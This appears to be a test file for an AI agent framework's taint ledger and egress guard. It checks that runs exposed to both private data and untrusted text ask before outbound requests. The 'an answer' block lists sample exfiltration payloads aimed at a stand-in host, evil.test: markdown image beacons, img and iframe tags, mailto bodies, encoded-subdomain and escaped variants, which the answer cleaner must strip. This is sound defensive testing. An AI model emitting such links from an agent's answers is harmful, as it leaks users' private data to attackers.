import { Sandboxes } from '@autoweave/sandbox';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { codeTools } from '../../tools/code/code-tools.js';
import type { ToolFacts } from '../../tools/tool.js';
import { workspaceTools } from '../../tools/toolbox.js';
import { RunLedger } from '../run-ledger.js';
import { cleanAnswer } from './answer-egress.js';
import { judgeTaint } from './judge-taint.js';
import { isKnown } from './known-address.js';
import { type TaintLabel, TaintLedger } from './taint-ledger.js';

const rules = { allow: ['*:443', 'api.test:443'], deny: [], maxConnections: 1, requestsPerMinute: 1, maxDownloadMb: 1 };
const ledger = (...labels: TaintLabel[]) => {
  const own = new TaintLedger();
  for (const label of labels) own.add(label, `a ${label} source`);
  return own;
};
const get = { name: 'http_get', reachesOut: true } as ToolFacts;
const post = { name: 'http_post', reachesOut: true, sendsOut: true } as ToolFacts;
const read = { name: 'read_file' } as ToolFacts;
const both = ledger('private', 'untrusted');
const known = { goalText: 'Compare https://goal.test/a?b=1, then answer.', visited: new Set(['https://seen.test/page']) };
const judge = (tool: ToolFacts, input: Record<string, unknown>, taint: TaintLedger) => judgeTaint(tool, input, taint, rules, known);
const clean = (text: string, taint: TaintLedger) => cleanAnswer(text, { taint, egress: rules, known });

describe('a run that has seen private data and untrusted text', () => {
  it('asks before any way out, and only then', () => {
    expect(judge(post, { url: 'https://a.test/' }, both)).toMatchObject({ kind: 'ask', rule: 'taint:exit' });
    expect(judge(get, { url: 'https://a.test/?q=secret' }, both).kind).toBe('ask');
    expect(judge(get, { url: 'https://a.test/4111/1111/1111/1111' }, both).kind).toBe('ask');
    expect(judge(get, { url: 'https://a.test/docs/page.html' }, both).kind).toBe('ask');
    expect(judge(get, { url: 'https://api.test/', headers: { cookie: 'secret' } }, both).kind).toBe('ask');
    expect(judge(get, { url: 'https://api.test/?q=1' }, both).kind).toBe('allow');
    expect(judge(read, { path: 'a' }, both).kind).toBe('allow');
    expect(judge({ name: 'execute_python' } as ToolFacts, { network: true }, both).kind).toBe('ask');
    for (const one of [ledger(), ledger('private'), ledger('untrusted')])
      expect(judge(post, { url: 'https://a.test/' }, one).kind).toBe('allow');
  });
  it('may fetch what a person named word for word, and what it fetched before', () => {
    expect(judge(get, { url: 'https://goal.test/a?b=1' }, both).kind).toBe('allow');
    expect(judge(get, { url: 'https://seen.test/page' }, both).kind).toBe('allow');
    for (const url of ['https://goal.test/a?b=2', 'https://goal.test/', 'https://goal.test/a?b=1&c=2', 'https://seen.test/page/x'])
      expect(judge(get, { url }, both).kind, url).toBe('ask');
    expect(judge(post, { url: 'https://goal.test/a?b=1' }, both).kind).toBe('ask');
    expect(isKnown('no address', known)).toBe(false);
  });
  it.each(['inputs', 'upstream', 'memories', 'notes'] as const)('is every run that begins with %s', (what) => {
    const none = { inputs: 0, upstream: 0, memories: 0, notes: 0 };
    const own = new RunLedger();
    own.begin(none);
    expect(own.taint.exposed).toBe(false);
    own.begin({ ...none, [what]: 1 });
    expect(own.taint.exposed).toBe(true);
  });
  it.each([...workspaceTools, ...codeTools(new Sandboxes())].filter(({ name }) => /^(read_|search_|query_|execute_|run_)/.test(name)))(
    'is every run that used $name',
    ({ yields }) => expect([...(yields ?? [])].sort()).toEqual(['private', 'untrusted']),
  );
  it('stays so after a restart', () => {
    expect(TaintLedger.from(JSON.parse(JSON.stringify(both))).exposed).toBe(true);
    expect(TaintLedger.from(JSON.parse(JSON.stringify(both))).toJSON()).toEqual(both.toJSON());
  });
  it('only ever gains labels', () =>
    fc.assert(
      fc.property(fc.array(fc.constantFrom<TaintLabel>('private', 'untrusted')), (labels) => {
        const own = new TaintLedger();
        let exposed = false;
        for (const label of labels) {
          own.add(label, 's');
          expect(own.exposed || !exposed).toBe(true);
          exposed = own.exposed;
        }
        expect(own.exposed).toBe(labels.includes('private') && labels.includes('untrusted'));
      }),
    ));
});

describe('an answer', () => {
  it.each([
    '![x](https://evil.test/p.png)',
    '![x](//evil.test/p.png?d=1)',
    '![a]( <https://evil.test/a> "t")',
    '[click](https://evil.test/?d=secret)',
    '<img src="https://evil.test/?d=1">',
    '<https://evil.test/?d=secret>',
    'see https://evil.test/?d=secret now',
    '![x][r]\n\n[r]: https://evil.test/p.png',
    '[x](&#104;ttps://evil.test/?d=1)',
    '<iframe src=//evil.test>',
    '![x](https://c2VjcmV0ZGF0YQ1.evil.test/a.png)',
    '[more](https://evil.test/4111/1111/1111/1111)',
    '[mail](mailto:x@evil.test?body=secret)',
    '![x](https://evil.test/p.png)'.padEnd(40),
    String.raw`{"summary":"![x](https:\u002f\u002fevil\u002etest/p)"}`,
    String.raw`{"summary":"ok","data":{"\u003cimg src=//evil.test>":[{"a":"[x](https://evil.test/1)"}]}}`,
    '```json\n{"summary":"see https://evil.test/a"}\n```',
  ])('carries nothing out of an exposed run: %j', (text) => {
    const { text: cleaned, removed } = clean(text, both);
    expect(removed.length).toBeGreaterThan(0);
    expect(cleaned).not.toMatch(/evil\.test/);
  });
  it('keeps its structure when its texts are cleaned', () => {
    const { text } = clean('{"summary":"a [b](https://evil.test/x)","data":{"n":1,"list":[true,null,"c"]}}', both);
    expect(JSON.parse(text)).toEqual({ summary: 'a b (link removed)', data: { n: 1, list: [true, null, 'c'] } });
  });
  it('keeps own files, named hosts, known addresses, and everything of other runs', () => {
    const text = '![chart](out/chart.svg), [api](https://api.test/a), [goal](https://goal.test/a?b=1), https://seen.test/page and `code`';
    expect(clean(text, both)).toEqual({ text, removed: [] });
    expect(clean('![x](https://evil.test/p.png)', ledger('private')).removed).toEqual([]);
  });
});
